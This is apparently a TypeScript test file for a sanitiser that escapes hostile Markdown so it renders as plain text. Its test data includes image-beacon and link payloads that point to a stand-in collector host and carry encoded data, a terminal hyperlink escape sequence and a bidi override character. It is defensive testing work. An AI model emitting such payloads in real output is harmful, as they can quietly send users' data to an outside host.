/**
 * Hook text for Markdown sinks (`host/text/inert-markdown.ts`), checked with a
 * real CommonMark renderer (`tests/helpers/markdown.ts`): no hostile Markdown
 * renders as an image, a link, an autolink or any HTML element, and the text
 * a person reads is the hook's printable text.
 */
import { describe, expect, it } from 'vitest';
import { inertMarkdown, inertMarkdownLine, isPrintable, printable, printableLines } from '../../host/text/index.ts';
import { RENDERERS, notInert, render, words } from '../helpers/markdown.ts';
import { MARKDOWN_ATTACKS } from '../security/hostile-markdown.ts';

function renderedWords(markdown: string): Record<string, string> {
  return Object.fromEntries(Object.entries(RENDERERS).map(([name, renderer]) => [name, words(render(markdown, renderer).text)]));
}

/** Attacks that markdown-it renders as text even unescaped (other renderers, or a second decoding, may not). */
const INERT_IN_MARKDOWN_IT = ['entities', 'mathAndEmoji', 'hardBreaks'];

describe('the corpus is hostile: printable alone leaves it Markdown', () => {
  for (const [name, attack] of Object.entries(MARKDOWN_ATTACKS)) {
    if (INERT_IN_MARKDOWN_IT.includes(name)) continue;
    it(`${name} renders as more than paragraphs and breaks when only made printable`, () => {
      expect(notInert(printableLines(attack).join('\n'))).not.toEqual([]);
    });
  }
});

describe('inertMarkdown: hostile Markdown renders as its own text', () => {
  for (const [name, attack] of Object.entries(MARKDOWN_ATTACKS)) {
    it(`${name}: no element but paragraphs and breaks, and the text reads as the printable input`, () => {
      const markdown = inertMarkdown(attack);
      expect(notInert(markdown)).toEqual([]);
      const expected = words(printableLines(attack).join('\n'));
      for (const [renderer, text] of Object.entries(renderedWords(markdown))) expect(text, renderer).toBe(expected);
    });
  }

  it('the raw Markdown (as a client that does not render sees it) is printable, line by line', () => {
    for (const attack of Object.values(MARKDOWN_ATTACKS)) {
      for (const line of inertMarkdown(attack).split('\n')) expect(isPrintable(line), line).toBe(true);
    }
  });

  it('every ASCII punctuation character is escaped, exactly as documented', () => {
    expect(inertMarkdownLine('![x](https://e.example/?d=1)')).toBe('\\!\\[x\\]\\(https\\:\\/\\/e\\.example\\/\\?d\\=1\\)');
    const punctuation = '!"#$%&\'()*+,-./:;<=>?@[\\]^_`{|}~';
    expect(inertMarkdownLine(punctuation)).toBe([...punctuation].map((char) => `\\${char}`).join(''));
  });

  it('an image and a link become their own words: the URL stays visible and unlinked', () => {
    const html = render(inertMarkdown('![](https://collector.example/p?d=c2VjcmV0) [details](https://x.example)'), RENDERERS['markdown-it (html, linkify)']!).html;
    expect(html).toBe('<p>![](https://collector.example/p?d=c2VjcmV0) [details](https://x.example)</p>\n');
  });

  it('lines stay lines (hard breaks), an empty line stays a paragraph break, no backslash shows', () => {
    const html = render(inertMarkdown('# one\n  - two\n\nthree'), RENDERERS['markdown-it commonmark (html)']!).html;
    expect(html).toBe('<p># one<br />\n\u00a0\u00a0- two</p>\n<p>three</p>\n');
  });

  it('controls are escaped by the sanitiser first, and its escapes display as written', () => {
    const attack = '\x1b]8;;https://collector.example\x07link\x1b]8;;\x07\u202e';
    const markdown = inertMarkdown(attack);
    expect(notInert(markdown)).toEqual([]);
    expect(render(markdown, RENDERERS['markdown-it (html, linkify)']!).text.trim()).toBe(printable(attack));
  });

  it('caps and line limits are the sanitiser\'s, applied before escaping', () => {
    expect(inertMarkdown('a\nb\nc', { maxLines: 2 }).split('\n')).toEqual(['a\\', '… \\(2 more lines\\)']);
    expect(inertMarkdownLine('[abcdef](x)', { maxLength: 4 })).toBe('\\[ab…');
  });

  it('inertMarkdownLine keeps one line: a newline shows as \\n', () => {
    const markdown = inertMarkdownLine('ok\n[r]: https://collector.example/q\n[r]');
    expect(markdown).not.toContain('\n');
    expect(notInert(markdown)).toEqual([]);
    expect(render(markdown, RENDERERS['markdown-it (html, linkify)']!).text.trim()).toBe('ok\\n[r]: https://collector.example/q\\n[r]');
  });
});
